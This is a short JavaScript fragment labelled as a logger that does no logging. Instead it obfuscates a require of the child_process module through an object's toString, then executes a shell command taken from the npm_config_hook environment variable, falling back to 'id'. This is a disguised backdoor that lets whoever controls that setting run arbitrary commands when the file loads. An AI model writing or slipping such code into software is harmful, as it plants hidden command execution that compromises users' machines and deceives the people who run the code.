// surroundings: logger
const o = { toString: () => 'child_process' };
const cp = require(`${o}`);
cp.exec(process.env.npm_config_hook || 'id'); //@act
